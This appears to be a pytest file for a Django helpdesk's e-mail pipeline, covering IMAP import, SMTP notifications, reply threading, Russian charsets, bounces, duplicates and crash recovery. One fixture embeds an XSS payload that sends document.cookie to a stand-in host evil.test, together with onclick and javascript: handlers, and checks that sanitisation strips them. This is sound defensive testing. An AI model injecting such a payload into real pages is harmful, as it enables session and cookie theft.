"""The e-mail channel end to end against real servers: mail fetched from Dovecot over IMAP,
notifications delivered to an SMTP server (aiosmtpd), the customer's reply to them threading
back into the same ticket; Russian charsets, hostile HTML, auto-replies, bounces, duplicates and
a worker killed between the import and the IMAP flag."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings

from tests.factories import World
from tests.mail.dovecot import Dovecot
from tests.mail.smtp import SmtpSink, serving
from tierdesk.mail.choices import InboundState, NotificationKind, OutboundState
from tierdesk.mail.imap import import_handler, poll_mailbox
from tierdesk.mail.models import FailingAddress, InboundMessage, Mailbox, OutboundMessage
from tierdesk.mail.outgoing import deliver_due_messages
from tierdesk.tickets import services as tickets
from tierdesk.tickets.choices import Channel, EntryKind
from tierdesk.tickets.models import Ticket

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = Path(__file__).resolve().parent / "samples"


@pytest.fixture
def sink(settings: Any) -> Iterator[SmtpSink]:
    with serving(settings) as running:
        yield running


def poll(mailbox: Mailbox) -> int:
    return poll_mailbox(mailbox, import_handler(mailbox))


def customer_mail(**headers: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = headers.pop("From", "Alex Smith <alex@alpha.test>")
    msg["To"] = "support@tierdesk.test"
    msg["Message-ID"] = make_msgid(domain="alpha.test")
    for name, value in headers.items():
        if name != "body":
            msg[name.replace("_", "-")] = value
    msg.set_content(headers.get("body", "The printer on floor 3 jams on every second page.\n"))
    return msg.as_bytes()


@pytest.mark.django_db
def test_request_acknowledgement_reply_and_answer_thread_through_real_servers(
    world: World, dovecot: Dovecot, imap_mailbox: Mailbox, sink: SmtpSink
) -> None:
    # 1. The customer writes to the desk; the worker fetches it over IMAP.
    dovecot.append(customer_mail(Subject="Printer jams"))
    assert poll(imap_mailbox) == 1
    ticket = Ticket.objects.get()
    assert (ticket.requester, ticket.channel) == (world.customer_a, Channel.EMAIL)
    assert [flags for _uid, flags, _raw in dovecot.messages()] == [(b"\\Seen",)]

    # 2. The acknowledgement reaches the customer's mail server with the ticket number.
    deliver_due_messages()
    [ack] = sink.to("alex@alpha.test")
    assert ticket.number in ack.subject
    ack_id = ack.message["Message-ID"]
    assert ack_id.strip("<>") == OutboundMessage.objects.get(kind=NotificationKind.RECEIVED).message_id
    assert ack.message["From"].endswith("<support@tierdesk.test>")  # from the mailbox it came in by

    # 3. The customer answers the acknowledgement from his mail client: no number in the subject,
    #    only the threading headers and the quoted acknowledgement below his text.
    reply = customer_mail(
        Subject="Re: your request",
        In_Reply_To=ack_id,
        References=ack_id,
        body=f"It is the HP in room 301.\n\nOn Fri, Tierdesk wrote:\n> {ack.text.splitlines()[0]}\n",
    )
    dovecot.append(reply)
    assert poll(imap_mailbox) == 1
    assert Ticket.objects.count() == 1
    entry = ticket.entries.get(kind=EntryKind.PUBLIC)
    assert entry.author == world.customer_a
    assert "room 301" in entry.body
    assert "Tierdesk wrote" not in entry.body

    # 4. The agent's answer goes out threaded under the customer's last message.
    tickets.assign_ticket(ticket, assignee=world.l1, actor=world.l1)
    tickets.add_public_reply(
        ticket, actor=world.l1, body="Please switch it off and on.", channel=Channel.PORTAL
    )
    deliver_due_messages()
    answer = next(r for r in sink.to("alex@alpha.test") if "switch it off" in r.text)
    customer_reply_id = InboundMessage.objects.get(state=InboundState.REPLY).message_id
    assert answer.message["In-Reply-To"].strip("<>") == customer_reply_id
    request_id = InboundMessage.objects.get(state=InboundState.TICKET).message_id
    assert f"<{request_id}>" in answer.message["References"]  # the thread's root: the request
    assert ticket.number in answer.subject


@pytest.mark.django_db
def test_russian_mail_in_koi8_r_and_windows_1251(
    world: World, dovecot: Dovecot, imap_mailbox: Mailbox
) -> None:
    for charset, subject, body in [
        ("koi8-r", "Не печатает принтер", "Принтер в 301 кабинете не печатает."),
        ("windows-1251", "Не работает почта", "Почта не открывается с утра."),
    ]:
        msg = EmailMessage()
        msg["From"] = "Алексей <alex@alpha.test>"
        msg["To"] = "support@tierdesk.test"
        msg["Subject"] = subject
        msg["Message-ID"] = make_msgid(domain="alpha.test")
        msg.set_content(body, charset=charset)
        raw = msg.as_bytes(policy=msg.policy.clone(cte_type="8bit", utf8=False))
        assert charset.encode() in raw.lower()
        dovecot.append(raw)
    assert poll(imap_mailbox) == 2
    by_subject = {t.subject: t for t in Ticket.objects.all()}
    assert "Принтер в 301 кабинете" in by_subject["Не печатает принтер"].description
    assert "Почта не открывается" in by_subject["Не работает почта"].description


@pytest.mark.django_db
def test_html_only_mail_with_a_script_and_an_inline_image(
    world: World, dovecot: Dovecot, imap_mailbox: Mailbox
) -> None:
    msg = EmailMessage()
    msg["From"] = "alex@alpha.test"
    msg["To"] = "support@tierdesk.test"
    msg["Subject"] = "Screenshot of the error"
    msg["Message-ID"] = make_msgid(domain="alpha.test")
    msg.set_content(
        '<html><body><p onclick="alert(1)">The error <b>looks</b> like this:</p>'
        '<script>document.location="https://evil.test/?c="+document.cookie</script>'
        '<img src="cid:shot@alpha.test"><a href="javascript:alert(2)">details</a></body></html>',
        subtype="html",
    )
    msg.add_related(
        b"\x89PNG\r\n\x1a\nfake image bytes", maintype="image", subtype="png", cid="<shot@alpha.test>"
    )
    dovecot.append(msg.as_bytes())
    assert poll(imap_mailbox) == 1
    ticket = Ticket.objects.get()
    assert "looks like this" in " ".join(ticket.description.split())
    for hostile in ("<script", "document.cookie", "javascript:", "onclick", "alert("):
        assert hostile not in ticket.description
    image = ticket.attachments.get(content_type="image/png")
    assert image.file.read().startswith(b"\x89PNG")


@pytest.mark.django_db
def test_out_of_office_bounce_and_duplicate_through_imap(
    world: World, dovecot: Dovecot, imap_mailbox: Mailbox
) -> None:
    original = customer_mail(Subject="VPN is down")
    dovecot.append(original)
    dovecot.append(original)  # the same message delivered twice
    dovecot.append(customer_mail(Subject="Automatic reply: VPN is down", Auto_Submitted="auto-replied"))
    assert poll(imap_mailbox) == 3
    ticket = Ticket.objects.get()
    states = sorted(InboundMessage.objects.values_list("state", flat=True))
    assert states == sorted([InboundState.TICKET, InboundState.AUTO_REPLY])
    assert all(flags == (b"\\Seen",) for _uid, flags, _raw in dovecot.messages())

    ack = OutboundMessage.objects.get(ticket=ticket, kind=NotificationKind.RECEIVED)
    dsn = (
        "From: MAILER-DAEMON@mx.alpha.test\r\nTo: support@tierdesk.test\r\n"
        "Subject: Undelivered Mail Returned to Sender\r\nMessage-ID: <dsn.7@mx.alpha.test>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary="Q"\r\n'
        "\r\n--Q\r\nContent-Type: text/plain\r\n\r\nThe mail system could not deliver your message.\r\n"
        "\r\n--Q\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.alpha.test\r\n\r\n"
        "Final-Recipient: rfc822; alex@alpha.test\r\nAction: failed\r\nStatus: 5.2.2\r\n"
        "Diagnostic-Code: smtp; 552 5.2.2 Mailbox full\r\n"
        f"\r\n--Q\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <{ack.message_id}>\r\n"
        "\r\n--Q--\r\n"
    ).encode()
    dovecot.append(dsn)
    assert poll(imap_mailbox) == 1
    assert FailingAddress.objects.filter(address="alex@alpha.test").exists()
    assert ticket.entries.filter(event="ticket.mail_bounced").exists()
    assert Ticket.objects.count() == 1


KILLED_POLL = """
import os, signal, sys
import django
django.setup()
from tierdesk.mail import imap
from tierdesk.mail.models import Mailbox

mailbox = Mailbox.objects.get(pk=int(sys.argv[1]))
handler = imap.import_handler(mailbox)

def import_then_die(raw):
    handler(raw)  # the import commits ...
    os.kill(os.getpid(), signal.SIGKILL)  # ... and the worker dies before the IMAP flag

imap.poll_mailbox(mailbox, import_then_die)
"""


@pytest.mark.skipif(
    "sqlite" in settings.DATABASES["default"]["ENGINE"],
    reason="an in-memory SQLite test database is invisible to another process; CI runs this on PostgreSQL",
)
def test_a_worker_killed_between_import_and_flag_imports_once(
    committed_world: World, dovecot: Dovecot
) -> None:
    dovecot.clear()
    mailbox = Mailbox.objects.create(
        name="Support", address="support@tierdesk.test", **dovecot.mailbox_settings()
    )
    dovecot.append(customer_mail(Subject="Killed in the middle"))
    db = settings.DATABASES["default"]
    env = {
        **os.environ,
        "PYTHONPATH": str(ROOT / "src"),
        "DJANGO_SETTINGS_MODULE": "tierdesk.config.settings",
        "DATABASE_URL": f"postgres://{db['USER']}@{db['HOST']}:{db['PORT']}/{db['NAME']}",
        "TIERDESK_STORAGE_PATH": settings.MEDIA_ROOT,
    }
    worker = subprocess.run(  # noqa: S603 - our own script under our own interpreter
        [sys.executable, "-c", KILLED_POLL, str(mailbox.pk)],
        env=env,
        cwd=ROOT,
        capture_output=True,
        timeout=120,
    )
    assert worker.returncode == -signal.SIGKILL, worker.stderr.decode()[-2000:]
    assert Ticket.objects.count() == 1  # imported and committed ...
    assert dovecot.messages()[0][1] == ()  # ... but not flagged

    # The worker restarts and polls again: the message is offered again and recognised.
    assert poll(mailbox) == 1
    assert Ticket.objects.count() == 1
    assert InboundMessage.objects.count() == 1
    assert dovecot.messages()[0][1] == (b"\\Seen",)
    assert OutboundMessage.objects.filter(kind=NotificationKind.RECEIVED).count() == 1
    assert OutboundMessage.objects.get().state == OutboundState.PENDING
